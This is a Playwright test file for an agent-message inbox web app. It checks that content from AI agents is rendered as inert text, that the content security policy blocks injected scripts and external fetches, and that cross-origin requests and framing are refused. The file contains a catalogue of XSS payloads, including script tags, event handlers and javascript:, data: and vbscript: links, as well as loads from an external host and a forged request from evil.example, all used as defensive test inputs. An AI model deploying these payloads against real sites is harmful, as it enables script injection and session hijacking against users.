// Whatever an agent writes, it runs nothing in a person's browser and loads nothing from elsewhere.
import { desktop, expect, phone, test, untilLive } from "./fixtures";

const mark = "window.top.askdOwned = true; alert(1)";
const elsewhere = "http://203.0.113.7/pixel";

const body = [
  "# Plain heading stays",
  `<script>${mark}</script>`,
  `<script src="${elsewhere}.js"></script>`,
  `<img src=x onerror="${mark}">`,
  `<img src="${elsewhere}.png">`,
  `![a picture](${elsewhere}-markdown.png)`,
  `![relative](/api/v1/me)`,
  `<svg onload="${mark}"><use href="${elsewhere}.svg#x"/></svg>`,
  `<iframe src="javascript:${mark}"></iframe>`,
  `<iframe srcdoc="<script>parent.askdOwned=true</script>"></iframe>`,
  `[press me](javascript:${encodeURIComponent(mark)})`,
  "[press me too](JaVaScRiPt:alert(1))",
  "[and me](&#106;avascript:alert(1))",
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  "[vb](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  `<a href="javascript:${mark}" onmouseover="${mark}">raw link</a>`,
  `<style>body{background:url(${elsewhere}.css)} .answer{display:none}</style>`,
  `<link rel="stylesheet" href="${elsewhere}.css">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}"><button formaction="${elsewhere}">Approve</button></form>`,
  `<object data="${elsewhere}"></object><embed src="${elsewhere}">`,
  `<video src="${elsewhere}" autoplay onerror="${mark}"></video>`,
  `<details open ontoggle="${mark}"><summary>x</summary></details>`,
  '<div style="position:fixed;inset:0;z-index:99">cover</div>',
  "```\n</code></pre><script>alert(1)</script>\n```",
  "[a good link](https://ci.example/81)",
].join("\n\n");

const tricks = {
  title: '<img src=x onerror="alert(1)"> </title><script>alert(1)</script>',
  body,
  form: {
    kind: "choice",
    options: [
      { value: "a", label: '<script>alert("a")</script>' },
      { value: "b", label: '"><img src=x onerror=alert(1)>' },
    ],
  },
  context: { "<b>key</b>": "<script>alert(1)</script>", link: "javascript:alert(1)", page: "https://ci.example/81" },
  labels: { x: "<script>alert(1)</script>" },
};

for (const [name, device] of [
  ["phone", phone],
  ["desk", desktop],
] as const) {
  test(`an ask full of tricks is only text, on a ${name}`, async ({ team, agent, open, watched }) => {
    const ask = await agent.ask(tricks);
    await agent.say(ask, body);
    await agent.notify({
      title: "<script>alert(1)</script>",
      body,
      conversation: ask.conversation,
      links: [{ label: "<b>log</b>", url: "https://ci.example/81" }],
    });
    const page = await open(team.ana, device);
    await untilLive(page);
    await page.getByTestId("ask-card").getByRole("link").first().click();
    const detail = page.getByTestId("ask-detail");
    await expect(detail.locator(".whole-title")).toHaveText(tricks.title);
    await expect(detail.getByTestId("message").first()).toBeVisible();
    await expect(detail.getByText("Plain heading stays").first()).toBeVisible();

    const made = await detail.evaluate((element) => {
      const bad: string[] = [];
      const forbidden = "script,iframe,object,embed,form,img,video,style,link,meta,base,svg use,[srcdoc],[formaction]";
      for (const found of element.querySelectorAll(forbidden)) bad.push(found.outerHTML.slice(0, 120));
      for (const found of element.querySelectorAll(".prose *")) {
        for (const { name } of found.attributes)
          if (!["href", "rel", "target", "title", "start", "align", "class"].includes(name))
            bad.push(`${found.nodeName} ${name}`);
      }
      const links = [...element.querySelectorAll<HTMLAnchorElement>("a")].filter((link) => link.href);
      for (const link of links)
        if (!/^https?:$/.test(link.protocol) && link.protocol !== "mailto:") bad.push(link.href);
      for (const link of links)
        if (link.host !== location.host && !/noopener/.test(link.rel)) bad.push(`${link.href} without noopener`);
      return bad;
    });
    expect(made).toEqual([]);
    // The agent's headings stand below the page's own.
    await expect(page.locator("h1:visible")).toHaveText(device === phone ? [tricks.title] : ["Inbox", tricks.title]);
    await expect(detail.getByRole("link", { name: "a good link" }).first()).toHaveAttribute(
      "href",
      "https://ci.example/81",
    );

    // Whatever looks like a trap is pressed.
    for (const trap of ["press me", "press me too", "and me", "data", "vb", "raw link"]) {
      for (const found of await detail.getByText(trap, { exact: true }).all()) await found.click({ timeout: 2000 });
    }
    await page.goto("/notices");
    await expect(page.getByTestId("notice").first()).toBeVisible();
    await page.goto(`/conversations/${ask.conversation}`);
    await expect(page.getByTestId("message").first()).toBeVisible();
    expect(await page.evaluate(() => "askdOwned" in window)).toBe(false);
    expect(watched).toHaveLength(1);
  });
}

test("the policy stops a script that came in anyway", async ({ team, open, watched }) => {
  const page = await open(team.ana, desktop);
  await untilLive(page);
  const said = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const found: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) => {
          found.push(event.effectiveDirective);
          if (found.length === 5) resolve(found.sort());
        });
        const holder = document.createElement("div");
        document.body.append(holder);
        holder.innerHTML = '<img src="http://203.0.113.7/x.png"><button onclick="window.askdOwned = true">x</button>';
        holder.querySelector("button")?.click();
        const inline = document.createElement("script");
        inline.textContent = "window.askdOwned = true";
        holder.append(inline);
        const remote = document.createElement("script");
        remote.src = "http://203.0.113.7/x.js";
        holder.append(remote);
        void fetch("http://203.0.113.7/x").catch(() => {});
      }),
  );
  expect(said).toEqual(["connect-src", "img-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
  expect(await page.evaluate(() => "askdOwned" in window)).toBe(false);
  // This test made the attempts itself; that they were noted shows that the watch of the other tests works.
  const [mine] = watched;
  expect(mine?.errors.length).toBeGreaterThanOrEqual(5);
  watched.length = 0;
});

test("no other page may frame the inbox", async ({ askd, team, open }) => {
  const page = await open(team.ana, desktop);
  const headers = (await page.request.get("/")).headers();
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["content-security-policy"]).toContain("default-src 'none'");
  expect(headers["content-security-policy"]).not.toContain("unsafe");
  const cross = await fetch(`${askd.url}/api/v1/people/sessions/current`, {
    method: "DELETE",
    headers: { Origin: "http://evil.example", Cookie: `askd_session=${team.ana.session}` },
  });
  expect(cross.status).toBe(403);
});
